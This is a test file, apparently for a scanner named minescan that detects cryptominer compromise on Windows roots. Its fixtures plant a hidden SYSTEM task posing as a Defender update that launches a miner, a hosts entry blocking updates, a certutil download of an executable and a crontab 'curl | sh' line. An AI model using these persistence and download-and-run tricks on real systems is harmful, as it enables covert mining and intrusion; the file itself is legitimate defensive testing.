/**
 * `minescan scan` of a directory laid out as a Windows root, end to end through the built
 * command line: the report says the root was judged Windows, the Windows checks' findings
 * are there with their severities and the exit code follows them (1 at the default
 * threshold, 0 with --fail-on none), the text report names the platform, and a clean
 * Windows root exits 0 with no finding, complete.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import path from 'node:path';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { startCli } from '../helpers/cli-process.js';
import { peFile, plantWindowsRoot, utf16 } from '../helpers/windows-samples.js';
import { XMRIG_STRINGS } from '../miners/elf-fixtures.js';


const TASK = (command: string, args: string) =>
  utf16(`<?xml version="1.0" encoding="UTF-16"?>
<Task version="1.4" xmlns="http://schemas.microsoft.com/windows/2004/02/mit/task">
  <RegistrationInfo><URI>\\WindowsDefenderUpdate</URI></RegistrationInfo>
  <Triggers><BootTrigger /></Triggers>
  <Principals><Principal id="Author"><UserId>S-1-5-18</UserId></Principal></Principals>
  <Settings><Hidden>true</Hidden></Settings>
  <Actions Context="Author"><Exec><Command>${command}</Command><Arguments>${args}</Arguments></Exec></Actions>
</Task>`);

async function scan(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  const run = startCli(['scan', ...args]);
  const code = await run.exit;
  return { code, stdout: run.stdout(), stderr: run.stderr() };
}

describe('minescan scan of a Windows root', () => {
  let scratch: string;
  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-winscan-');
    await plantWindowsRoot(path.join(scratch, 'infected'), {
      'Windows/System32/Tasks/WindowsDefenderUpdate': TASK('C:\\ProgramData\\Defender\\MsMpEng.exe', '-o pool.supportxmr.com:443 --tls --donate-level 1'),
      'Windows/System32/drivers/etc/hosts': '127.0.0.1 wdcp.microsoft.com\r\n',
      'ProgramData/Defender/MsMpEng.exe': peFile(XMRIG_STRINGS),
      'Users/alice/AppData/Roaming/Microsoft/Windows/Start Menu/Programs/Startup/sync.cmd': '@echo off\r\ncertutil -urlcache -split -f http://198.51.100.7/s.exe C:\\Users\\Public\\s.exe\r\n',
      // A Linux persistence file on a Windows volume: no Linux check may judge it.
      'etc/crontab': '* * * * * root curl -s http://198.51.100.1/x | sh\n',
    });
    await plantWindowsRoot(path.join(scratch, 'clean'), { 'Windows/System32/drivers/etc/hosts': '# Copyright (c) 1993-2009 Microsoft Corp.\r\n' });
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('judges the root Windows, reports the Windows findings and exits 1', async () => {
    const { code, stdout } = await scan([path.join(scratch, 'infected'), '--format', 'json']);
    expect(code).toBe(1);
    const report = JSON.parse(stdout);
    expect(report.roots).toEqual([{ platform: 'windows', evidence: '/Windows/System32/config/SYSTEM' }]);
    expect(report.status).toBe('complete');
    const rules = report.findings.map((f: { rule: string }) => f.rule);
    expect(rules).toEqual(
      expect.arrayContaining(['command.miner', 'windows-task.system-user-writable', 'windows-task.hidden', 'windows-hosts.update-blocked', 'miner.xmrig-binary', 'windows-command.download-file']),
    );
    // The task that starts the miner is linked to it and raised, as a Linux unit is.
    const task = report.findings.find((f: { rule: string }) => f.rule === 'command.miner');
    expect(task.severity).toMatch(/high|critical/);
    expect(report.findings.some((f: { path: string }) => f.path === '/etc/crontab')).toBe(false);
    expect(report.blocklist.pools.map((p: { host: string }) => p.host)).toContain('pool.supportxmr.com');
    expect((await scan([path.join(scratch, 'infected'), '--format', 'json', '--fail-on', 'none'])).code).toBe(0);
  });

  it('names the platform in the text report', async () => {
    const { stdout } = await scan([path.join(scratch, 'infected'), '--format', 'text']);
    expect(stdout).toContain('judged as windows: /Windows/System32/config/SYSTEM');
    expect(stdout).toContain('scheduled task \\WindowsDefenderUpdate');
  });

  it('exits 0 on a clean Windows root, complete and without findings', async () => {
    const { code, stdout } = await scan([path.join(scratch, 'clean'), '--format', 'json']);
    expect(code).toBe(0);
    const report = JSON.parse(stdout);
    expect(report).toMatchObject({ status: 'complete', findings: [], errors: [], roots: [{ platform: 'windows' }] });
  });
});
